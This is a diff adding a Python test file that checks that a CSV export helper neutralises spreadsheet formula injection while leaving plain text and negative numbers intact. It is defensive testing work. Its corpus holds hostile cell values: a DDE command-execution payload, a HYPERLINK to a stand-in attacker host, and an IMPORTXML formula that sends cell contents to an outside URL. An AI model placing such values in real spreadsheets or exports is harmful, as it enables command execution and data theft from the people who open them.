@@ -1,0 +1,34 @@
+"""Hostile text in downloads: spreadsheet formulas are neutralised, numbers are left alone."""
+
+import io
+
+import pandas as pd
+
+from smbcore.safety import csv_bytes, neutralise_formulas
+
+CORPUS = [
+    '=HYPERLINK("http://evil.example","click")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
+]
+
+
+def test_every_formula_in_the_corpus_is_neutralised_and_plain_text_is_not():
+    frame = pd.DataFrame({"product_name": CORPUS + ["Red mug", "T-shirt - blue"], "amount": range(-5, 5)})
+    read = pd.read_csv(io.BytesIO(csv_bytes(frame)), dtype={"product_name": str})
+    assert len(read) == len(frame)  # a carriage return inside a cell does not start a new row
+    assert all(v.startswith("'") for v in read["product_name"][: len(CORPUS)])
+    assert read["product_name"].tolist()[-2:] == ["Red mug", "T-shirt - blue"]
+    assert read["amount"].tolist() == list(range(-5, 5))  # negative numbers stay numbers
+
+
+def test_headers_index_and_string_dtypes_are_covered_too():
+    frame = pd.DataFrame({"=danger": pd.array(["=1+1", None], dtype="string")}, index=["@x", "ok"])
+    safe = neutralise_formulas(frame)
+    assert list(safe.columns) == ["'=danger"] and safe.iloc[0, 0] == "'=1+1" and pd.isna(safe.iloc[1, 0])
+    assert list(safe.index) == ["'@x", "ok"]
